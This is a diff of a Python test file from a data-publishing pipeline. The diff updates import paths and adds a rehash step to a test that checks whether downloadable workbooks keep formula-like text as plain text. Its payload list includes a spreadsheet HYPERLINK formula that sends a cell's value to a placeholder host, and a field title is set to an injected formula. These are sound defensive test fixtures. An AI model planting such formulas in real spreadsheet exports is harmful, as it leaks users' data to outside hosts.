@@ -10,12 +10,12 @@ import json
 import shutil
 import zipfile
 
-from conftest import ROOT, SAMPLE_ID
+from conftest import ROOT, SAMPLE_ID, rehash
 
 from pipeline.model import Field, Resource
-from pipeline.package import csv_bytes
-from pipeline.site.downloads import sheet_titles
-from pipeline.spreadsheet import FORMULA_PREFIXES
+from pipeline.package.write import csv_bytes
+from pipeline.publish.site.downloads import sheet_titles
+from pipeline.publish.spreadsheet import FORMULA_PREFIXES
 
 PAYLOADS = [
     '=HYPERLINK("http://example.invalid/?"&A1,"详情")',
@@ -47,13 +47,14 @@ def hostile_package(packages):
     income = next(r for r in descriptor["resources"] if r["name"] == "income")
     income["schema"]["fields"][2]["title"] = "=1+1"
     (folder / "datapackage.json").write_text(json.dumps(descriptor, ensure_ascii=False), encoding="utf-8")
+    rehash(folder)
     return folder
 
 
 def test_every_workbook_the_site_offers_keeps_formula_like_text_as_text(tmp_path):
     from openpyxl import load_workbook
 
-    from pipeline.site import packages_to_docs
+    from pipeline.publish.site import packages_to_docs
 
     hostile_package(tmp_path / "packages")
     packages_to_docs(tmp_path / "packages", tmp_path / "docs", sources=ROOT / "sources")
